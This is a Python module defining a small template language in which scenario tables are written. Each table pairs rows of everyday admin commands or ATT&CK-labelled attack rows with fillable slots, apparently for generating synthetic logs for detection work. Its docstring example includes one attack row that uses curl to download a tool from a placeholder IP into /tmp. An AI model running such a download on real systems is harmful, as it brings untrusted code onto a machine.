"""The small language in which scenarios are written: tables of rows, rows of text with slots.

A table is text; a line `# name` opens a scenario of daily work, `# T1003.001 name` an attack with its
ATT&CK id, and every other line that is not empty is one row of it, one way in which it shows.

In a row `«user»` is a slot that the scene fills, `«hex:8»` a slot with arguments, and `«curl|wget -q»` a
choice; they nest. A pipe inside a choice is written `¦`. Used by every family; knows nothing of logs, sites or labels.

>>> daily = table('''
... # backup
... rsync -a «src|data» /backup
... # T1105 fetch tool
... curl -o /tmp/x http://«ip»/x
... ''')
>>> [(scenario.name, scenario.technique, len(scenario.rows)) for scenario in daily]
[('backup', None, 1), ('fetch_tool', 'T1105', 1)]
"""
from __future__ import annotations

import re
from dataclasses import dataclass
from functools import cache
from typing import Callable

_HEADING = re.compile(r"# (?:(TA?\d{4}(?:\.\d{3})?) )?(.+)")


@dataclass(frozen=True)
class Scenario:
    """One kind of daily work (no technique) or one attack technique, and the rows that show it."""

    name: str
    technique: str | None
    rows: tuple[str, ...]

    def __post_init__(self) -> None:
        if not re.fullmatch(r"[\w.-]+", self.name):
            raise ValueError(f"a scenario's name goes into a group, {self.name!r} does not")
        if not self.rows:
            raise ValueError(f"scenario {self.name} has no rows")


@dataclass(frozen=True)
class Slot:
    name: str
    arguments: tuple[str, ...]


@dataclass(frozen=True)
class Choice:
    ways: tuple[tuple, ...]


def table(text: str) -> tuple[Scenario, ...]:
    """The scenarios of a table; raises ValueError for rows without a heading."""
    found: dict[tuple[str, str | None], list[str]] = {}
    rows: list[str] | None = None
    for line in text.splitlines():
        heading = _HEADING.fullmatch(line)
        if heading:
            key = (heading[2].strip().replace(" ", "_"), heading[1])
            rows = found.setdefault(key, [])
        elif line.strip():
            if rows is None:
                raise ValueError(f"row before the first heading: {line!r}")
            rows.append(line)
    return tuple(Scenario(name, technique, tuple(rows)) for (name, technique), rows in found.items())


@cache
def parse(text: str) -> tuple:
    """The parts of a row: strings, slots and choices."""
    parts: list = []
    start = 0
    while True:
        opening = text.find("«", start)
        if opening < 0:
            break
        if opening > start:
            parts.append(_literal(text[start:opening]))
        closing = _closing(text, opening)
        ways = _split_ways(text[opening + 1 : closing])
        if len(ways) == 1:
            name, *arguments = ways[0].split(":")
            parts.append(Slot(name, tuple(arguments)))
        else:
            parts.append(Choice(tuple(parse(way) for way in ways)))
        start = closing + 1
    if start < len(text):
        parts.append(_literal(text[start:]))
    return tuple(parts)


def _literal(text: str) -> str:
    return text.replace("¦", "|")


def _closing(text: str, opening: int) -> int:
    depth = 0
    for index in range(opening, len(text)):
        if text[index] == "«":
            depth += 1
        elif text[index] == "»":
            depth -= 1
            if depth == 0:
                return index
    raise ValueError(f"« without »: {text!r}")


def _split_ways(text: str) -> list[str]:
    ways, depth, start = [], 0, 0
    for index, character in enumerate(text):
        if character == "«":
            depth += 1
        elif character == "»":
            depth -= 1
        elif character == "|" and depth == 0:
            ways.append(text[start:index])
            start = index + 1
    return [*ways, text[start:]]


def fill(text: str, slots: dict[str, Callable[..., str]], scene) -> str:
    """`text` with its slots filled for `scene`; an unknown slot is a KeyError that names it."""
    return _render(parse(text), slots, scene)


def _render(parts: tuple, slots: dict[str, Callable[..., str]], scene) -> str:
    out = []
    for part in parts:
        if isinstance(part, str):
            out.append(part)
        elif isinstance(part, Slot):
            out.append(str(slots[part.name](scene, *part.arguments)))
        else:
            out.append(_render(scene.pick(part.ways), slots, scene))
    return "".join(out)
